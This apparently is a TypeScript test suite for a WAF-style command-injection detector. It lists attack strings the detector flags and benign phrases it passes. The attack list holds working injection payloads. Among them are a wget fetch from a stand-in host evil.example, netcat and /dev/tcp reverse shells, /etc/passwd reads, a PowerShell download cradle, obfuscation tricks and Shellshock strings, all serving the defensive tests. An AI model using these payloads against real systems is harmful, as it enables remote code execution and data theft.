import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { variants } from "../decode.ts";
import { CMDI_RULES, cmdiDetector } from "./cmdi.ts";

// A guard against super-linear work, not a speed target (those live in bench/): linear code takes a
// few ms on 64 KiB here, quadratic work seconds; the bound leaves room for a loaded CI machine.
const SUPERLINEAR_GUARD_MS = 250;

/** Rules matched at paranoia `pl` or below over every decoded variant, as the engine runs them. */
const rulesAt = (value: string, pl = 1): string[] => [
  ...new Set(
    variants(value).flatMap((v) =>
      cmdiDetector
        .inspect({ name: "ARGS:host", value: v })
        .filter((d) => d.paranoia <= pl)
        .map((d) => d.rule),
    ),
  ),
];

describe("cmdiDetector: attacks", () => {
  const attacks: [string, string][] = [
    ["127.0.0.1; cat /etc/passwd", "cmdi-separator-command"],
    ["x|id", "cmdi-separator-command"],
    [";id;", "cmdi-separator-command"],
    ["| id", "cmdi-separator-command"], // a value opening with a separator
    ["a || whoami", "cmdi-separator-command"],
    ["a && uname -a", "cmdi-separator-command"],
    ["a & wget http://evil.example/x.sh", "cmdi-separator-command"],
    ["a\nnc -e /bin/sh 10.0.0.1 4444", "cmdi-separator-command"],
    ["a%0abash -i", "cmdi-separator-command"],
    ["1;sleep 5;", "cmdi-separator-command"],
    ["1 | ping -c 10 127.0.0.1", "cmdi-separator-command"],
    ["curl http://x | sh", "cmdi-separator-command"],
    ["; python3 -c 'import os'", "cmdi-separator-command"],
    ["`cat /etc/passwd`", "cmdi-substitution"],
    ["`whoami`", "cmdi-substitution"],
    ["$(id)", "cmdi-substitution"],
    ["x$(sleep 10)", "cmdi-substitution"],
    ["/usr/bin/id", "cmdi-binary-path"],
    ['<!--#exec cmd="/bin/cat /etc/passwd"-->', "cmdi-binary-path"],
    ["cat /etc/passwd", "cmdi-command-line"],
    ["nohup ifconfig", "cmdi-command-line"], // a prefix command runs the next word
    [";lastlog -u root", "cmdi-separator-command"], // an unknown program given options
    ["ax--exec=`id`--remote=origin", "cmdi-substitution"], // backticks glued to a word are no code span
    ["ping -n 31 127.0.0.1", "cmdi-command-line"],
    // evasions
    [";c''at /etc/passwd", "cmdi-separator-command"],
    [";c\\at /etc/passwd", "cmdi-separator-command"],
    [";cat${IFS}/etc/passwd", "cmdi-separator-command"],
    [";cat$IFS$9/etc/passwd", "cmdi-separator-command"],
    [";{cat,/etc/passwd}", "cmdi-separator-command"],
    [";w'h'o'am'i", "cmdi-evasion"],
    ["'wh'oami", "cmdi-evasion"],
    ["x;c$_at /et$_c/passwd", "cmdi-separator-command"],
    ["x;cat$u /etc$u/passwd", "cmdi-separator-command"],
    ["x;c$?at /etc/passwd", "cmdi-separator-command"],
    ["time whoami | sh", "cmdi-separator-command"],
    ["/???/??t /???/p??s??", "cmdi-glob-path"],
    ["cat /etc/pa[s]swd", "cmdi-glob-path"],
    ["bash -i >& /dev/tcp/10.0.0.1/8080 0>&1", "cmdi-reverse-shell"],
    // Windows
    ["x & type C:\\boot.ini", "cmdi-windows"],
    ["x | dir c:\\", "cmdi-windows"],
    ["x&&dir", "cmdi-windows"],
    ["cmd /c whoami", "cmdi-windows"],
    ["C:\\Windows\\System32\\cmd.exe /k ver", "cmdi-windows"],
    ["x & c^m^d /c calc", "cmdi-windows"],
    ["powershell -EncodedCommand ZQBjAGgAbwA=", "cmdi-windows"],
    ["IEX (New-Object Net.WebClient).DownloadString('http://x')", "cmdi-windows"],
    ["Invoke-WebRequest http://example.com/file.ps1", "cmdi-windows"],
    ["for /f %a in ('dir /b') do echo %a", "cmdi-windows"],
    ['IF "%var%"=="" (SET var=1)', "cmdi-windows"],
    // Shellshock
    ["() { :; }; /bin/bash -c id", "cmdi-shellshock"],
    ["() { _; } >_[$($())] { id; }", "cmdi-shellshock"],
    ['{ "() { :; }":"foo" }', "cmdi-shellshock"],
  ];
  it.each(attacks)("%s → %s", (value, rule) => {
    expect(rulesAt(value)).toContain(rule);
  });

  it("weaker forms wait for PL2", () => {
    expect(rulesAt("`id`")).toEqual([]);
    expect(rulesAt("`id`", 2)).toContain("cmdi-command-word");
    expect(rulesAt("Salt; cat food")).toEqual([]);
    expect(rulesAt("a && echo vulnerable", 2)).toContain("cmdi-command-word");
    expect(rulesAt("x; ansible-playbook --check site.yml")).toEqual([]);
    expect(rulesAt("x; ansible-playbook --check site.yml", 2)).toContain("cmdi-option-command");
  });

  it("reports rule, tags, level, severity and target", () => {
    const [d] = cmdiDetector.inspect({ name: "ARGS:h", value: ";id;" });
    expect(d).toEqual({
      rule: "cmdi-separator-command",
      tags: ["attack-rce", "platform-unix"],
      paranoia: 1,
      severity: "critical",
      target: "ARGS:h",
    });
    for (const r of Object.values(CMDI_RULES)) expect([1, 2]).toContain(r.paranoia);
  });
});

describe("cmdiDetector: benign look-alikes at PL1", () => {
  const benign = [
    "Tom & Jerry",
    "R&D; Sales",
    "pipe | separated | values",
    "Name | ID | Email",
    "cat videos; dog videos",
    "I'd like to sleep 8 hours",
    "tired; sleep 8 hours",
    "hello; time he came",
    "Java; Python; Ruby",
    "Perl | Python | Ruby",
    "Raleigh; NC 27601",
    "https://example.com/?a=1&id=2&cat=3&sort=name",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36",
    "Opera/9.80 (MTK; Opera Mini/2.1199/34.1244; U; id) Presto/2.8.119",
    "Enter your user name (ID)",
    "the `id` column is the key",
    "$(document).ready(function () { init(); })",
    "function () { return 1; }",
    "O'Brien",
    "don't; won't",
    "echo in the mirror",
    "curl and divergence",
    "bash away in the gym",
    "ls 300 lexus",
    "nc 8000 controller",
    "data://text/plain;base64,SSBsb3ZlIFBIUAo=",
    "if (a == b) { return; }",
    "for each item in (list) do this",
    "C++ & C#",
    "Sales; Marketing -Q3 plan",
  ];
  it.each(benign)("%s", (value) => {
    expect(rulesAt(value)).toEqual([]);
  });

  // Decision: a shell command quoted in a code-review comment *is* shell syntax; it is flagged at PL1
  // like an attack, and the comment field gets a scoped exclusion (rule or tag `attack-rce` on that
  // parameter), as CRS users do. Commands named in prose without shell syntax are not flagged.
  it("flags commands quoted in a code-review comment (tuned away by a parameter exclusion)", () => {
    expect(rulesAt("LGTM, but run `cat /etc/hosts` first; then ls -la")).not.toEqual([]);
    expect(rulesAt("LGTM, the cat helper reads files")).toEqual([]);
  });
});

describe("cmdiDetector: robustness", () => {
  it("never throws", () => {
    fc.assert(
      fc.property(fc.string({ maxLength: 300 }), (s) => {
        cmdiDetector.inspect({ name: "ARGS:x", value: s });
      }),
      { numRuns: 300 },
    );
  });
  it("stays linear on adversarial input", () => {
    const inputs = [
      ";cat ",
      "(cat a",
      "$(",
      "`",
      "() {",
      "for ",
      "if ",
      "/?",
      "[a]/",
      "bin/",
      "$u",
      ";",
      "a",
    ].map((u) => u.repeat(Math.ceil(65536 / u.length)).slice(0, 65536));
    for (const v of inputs) cmdiDetector.inspect({ name: "ARGS:x", value: v }); // warm-up
    for (const v of inputs) {
      // Best of three, so a busy machine does not fail the test. the guard for 64 KiB is generous
      // (under 7 ms measured); quadratic work would take seconds.
      let best = Infinity;
      for (let k = 0; k < 3; k++) {
        const t0 = performance.now();
        cmdiDetector.inspect({ name: "ARGS:x", value: v });
        best = Math.min(best, performance.now() - t0);
      }
      expect(best).toBeLessThan(SUPERLINEAR_GUARD_MS);
    }
  });
});
